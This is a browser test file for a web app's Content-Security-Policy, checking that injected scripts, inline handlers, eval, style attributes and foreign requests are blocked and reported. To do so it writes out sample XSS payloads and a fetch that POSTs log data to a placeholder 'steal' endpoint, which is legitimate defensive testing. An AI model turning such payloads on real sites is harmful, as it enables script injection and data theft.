// The Content-Security-Policy in Chromium, on the production build served by the project's own server: what an
// attacker's script would try is blocked and reported (to the page and to the server's report endpoint), the
// page's own <meta> policy holds on a host that sends no headers, the app itself breaks no rule on any screen,
// and a malformed deep link at a cold start still opens the app.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startStaticServer, type StaticServer } from '../../scripts/static-server.mjs';
import { PHONE, baseUrl, collectErrors, distDir, expectVisible, haveChromium, launchBrowser } from './harness';
import { collectLogErrors, violations, walkEveryScreen, watchViolations } from './csp-watch';

interface CspReport {
  'csp-report'?: { 'effective-directive'?: string; 'violated-directive'?: string; 'blocked-uri'?: string };
}

/** Does in the page what injected markup or a hostile script would try; returns what each attempt gave. */
function attack(page: Page) {
  return page.evaluate(async () => {
    const outcome: Record<string, string> = {};
    const script = document.createElement('script');
    script.textContent = 'window.__xss = "inline script"';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/icons/icon.svg" onload="window.__xss = \'inline handler\'">';
    document.body.append(holder);
    // DevTools lets eval run inside the evaluation it was asked for (Runtime.evaluate's
    // allowUnsafeEvalBlockedByCSP): eval and new Function are tried from a task of the page's own instead.
    const later = (attempt: () => void) =>
      new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            attempt();
            resolve('ran');
          } catch (e) {
            resolve((e as Error).name);
          }
        }),
      );
    // eslint-disable-next-line no-eval
    outcome.eval = await later(() => eval('window.__xss = "eval"'));
    outcome.function = await later(() => new Function('window.__xss = "new Function"')());
    const external = document.createElement('script');
    external.src = 'http://192.0.2.1/x.js';
    document.body.append(external);
    const styled = document.createElement('p');
    styled.setAttribute('style', 'color: red');
    document.body.append(styled);
    try {
      await fetch('http://192.0.2.1/steal', { method: 'POST', body: 'the log' });
      outcome.fetch = 'ran';
    } catch (e) {
      outcome.fetch = (e as Error).name;
    }
    // Violation events are queued as tasks: let them arrive.
    await new Promise((resolve) => setTimeout(resolve, 200));
    outcome.xss = String(window.__xss);
    return outcome;
  });
}

const ATTACKS = ['script-src-elem', 'script-src-attr', 'script-src', 'style-src-attr', 'connect-src'];

describe.skipIf(!haveChromium)('the Content-Security-Policy in Chromium', () => {
  let browser: Browser;
  let server: StaticServer;
  const reports: CspReport[] = [];
  beforeAll(async () => {
    browser = await launchBrowser();
    server = await startStaticServer({ root: distDir, onCspReport: (r) => reports.push(r as CspReport) });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('blocks an injected script, an inline handler, eval, new Function, a style attribute and a foreign fetch, and reports each', async () => {
    const context = await browser.newContext(PHONE);
    const page = await context.newPage();
    await watchViolations(page);
    await page.goto(`${server.url}/`);
    await expectVisible(page.getByRole('navigation', { name: 'Main' }));
    expect(await violations(page)).toEqual([]);

    const outcome = await attack(page);
    expect(outcome).toEqual({ eval: 'EvalError', function: 'EvalError', fetch: 'TypeError', xss: 'undefined' });
    const seen = await violations(page);
    for (const directive of ATTACKS) expect(seen.map((v) => v.directive), directive).toContain(directive);
    expect(seen.some((v) => v.directive === 'connect-src' && v.blocked === 'http://192.0.2.1/steal')).toBe(true);
    expect(seen.some((v) => v.directive === 'script-src-elem' && v.blocked === 'http://192.0.2.1/x.js')).toBe(true);
    // Both copies of the policy are in force: the page's <meta> (no report-uri) and the server's header.
    expect(seen.some((v) => v.directive === 'script-src-elem' && !v.policy.includes('report-uri'))).toBe(true);
    expect(seen.some((v) => v.directive === 'script-src-elem' && v.policy.includes('report-uri /csp-report'))).toBe(true);

    // The header's report-uri: Chromium posts one report per violation of that policy to the server.
    const deadline = Date.now() + 20_000;
    const reported = () => new Set(reports.map((r) => r['csp-report']?.['effective-directive'] ?? r['csp-report']?.['violated-directive']));
    while (ATTACKS.some((d) => !reported().has(d)) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
    expect([...reported()].sort()).toEqual([...ATTACKS].sort());
    expect(reports.some((r) => r['csp-report']?.['blocked-uri'] === 'http://192.0.2.1/steal')).toBe(true);
    await context.close();
  });

  it('holds through the page’s own <meta> policy on a host that sends no security headers', async () => {
    const context = await browser.newContext(PHONE);
    // A bare host: every answer of the project's server with its security headers taken off.
    await context.route('**/*', async (route) => {
      try {
        const response = await route.fetch();
        const headers = Object.fromEntries(Object.entries(response.headers()).filter(([name]) => !/^(content-security-policy|permissions-policy|referrer-policy|x-content-type-options|cross-origin-opener-policy)$/i.test(name)));
        await route.fulfill({ response, headers });
      } catch {
        // A request still in flight when the context closes (a chunk loaded at idle): nothing to answer any more.
      }
    });
    const page = await context.newPage();
    await watchViolations(page);
    const answer = await page.goto(`${server.url}/`);
    expect(answer?.headers()['content-security-policy']).toBeUndefined();
    await expectVisible(page.getByRole('navigation', { name: 'Main' }));
    const outcome = await attack(page);
    expect(outcome).toEqual({ eval: 'EvalError', function: 'EvalError', fetch: 'TypeError', xss: 'undefined' });
    const seen = await violations(page);
    for (const directive of ATTACKS) expect(seen.map((v) => v.directive), directive).toContain(directive);
    expect(seen.every((v) => !v.policy.includes('report-uri'))).toBe(true);
    await context.unrouteAll({ behavior: 'ignoreErrors' });
    await context.close();
  });

  it('sends the security headers with the page and the service worker, and nosniff with the rest', async () => {
    const asset = /src="(\/assets\/[^"]+\.js)"/.exec(await (await fetch(`${server.url}/`)).text())![1]!;
    for (const path of ['/manifest.webmanifest', asset]) expect((await fetch(`${server.url}${path}`)).headers.get('x-content-type-options'), path).toBe('nosniff');
    for (const path of ['/', '/sw.js', '/#/day']) {
      const res = await fetch(`${server.url}${path}`);
      expect(res.headers.get('content-security-policy'), path).toMatch(/^default-src 'none'; script-src 'self' blob:;/);
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
      expect(res.headers.get('permissions-policy'), path).toMatch(/^microphone=\(self\), geolocation=\(self\), web-share=\(self\), screen-wake-lock=\(self\), camera=\(\)/);
    }
    const html = await (await fetch(`${server.url}/`)).text();
    // No inline script or style in the built page: every <script> has a src, and there is no <style>.
    expect(html).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
    expect(html).not.toMatch(/<style|\sstyle=|\son[a-z]+=/i);
    expect(html).toContain('<meta http-equiv="Content-Security-Policy" content="default-src \'none\';');
  });

  describe('the app on every screen, with the sample log', () => {
    let context: BrowserContext;
    let page: Page;
    let errors: string[];
    let logErrors: string[];
    beforeAll(async () => {
      context = await browser.newContext(PHONE);
      page = await context.newPage();
      await watchViolations(page);
      errors = collectErrors(page);
      logErrors = await collectLogErrors(page);
    });
    afterAll(async () => {
      await context?.close();
    });

    it('breaks no rule of the policy and logs no error, wherever a link leads', async () => {
      await page.goto(`${server.url}/#/settings`);
      await page.getByRole('button', { name: 'Load the sample log' }).click();
      await expectVisible(page.getByRole('button', { name: 'Remove the sample log' }));
      const { visited, elements } = await walkEveryScreen(page);
      // The widgets that draw with styles of their own were on screen: the charts, the timer pad, the fields.
      expect([...elements].sort()).toEqual(['pl-bars', 'pl-plot', 'pl-quantity', 'pl-timer-pad']);
      // Every kind of screen was reached: the day, a series, the summary, a specimen's form, the planner…
      for (const part of [/^#\/day\/[^/]+$/, /^#\/day\/[^/]+\/series\/[^/]+$/, /^#\/day\/[^/]+\/summary$/, /^#\/specimens\/[^/]+$/, /^#\/plan$/, /^#\/log$/, /^#\/send$/, /^#\/settings$/]) {
        expect(visited.some((h) => part.test(h)), String(part)).toBe(true);
      }
      expect(await violations(page)).toEqual([]);
      expect(errors).toEqual([]);
      expect(logErrors).toEqual([]);
    });
  });

  it.each([
    ['a percent escape cut short', '#/day/%E0%A4%A'],
    ['an escaped lone surrogate', '#/specimens/%ED%A0%80'],
    ['a path that climbs', '#/series/../../'],
    ['an address of 100 000 characters', `#/day/${'9'.repeat(100_000)}`],
  ])('opens the app with "Page not found" at a cold start from %s', async (_name, hash) => {
    const context = await browser.newContext(PHONE);
    const page = await context.newPage();
    const errors = collectErrors(page);
    await page.goto(`${baseUrl}/${hash}`);
    await expectVisible(page.getByText('Page not found'));
    await expectVisible(page.getByRole('navigation', { name: 'Main' }));
    // The day screen underneath: the form to start a day on a fresh phone.
    await expectVisible(page.getByRole('heading', { name: 'Start a test day' }));
    expect(errors).toEqual([]);
    await context.close();
  });
});
